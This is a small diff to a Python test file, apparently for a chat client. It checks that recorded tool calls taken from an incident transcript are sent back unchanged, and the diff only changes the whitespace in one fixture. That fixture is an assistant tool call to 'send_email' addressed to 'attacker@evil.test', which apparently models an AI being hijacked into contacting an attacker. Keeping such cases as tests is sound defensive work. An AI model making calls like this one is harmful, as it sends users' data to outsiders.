@@ -153,7 +153,7 @@ def test_the_round_trip_sends_calls_and_results_back(stub_server: StubChatServer
 
 def test_recorded_wire_shaped_calls_are_sent_unchanged(stub_server: StubChatServer) -> None:
     """An incident's transcript keeps calls in OpenAI's shape; they go back as they were."""
-    recorded = _call("x1", "send_email", '{"to": "attacker@evil.test"}')
+    recorded = _call("x1", "send_email", '{ "to":"attacker@evil.test" }')
     conversation = [
         Message(role="user", content=PROMPT),
         Message(role="assistant", content="", tool_calls=[recorded]),
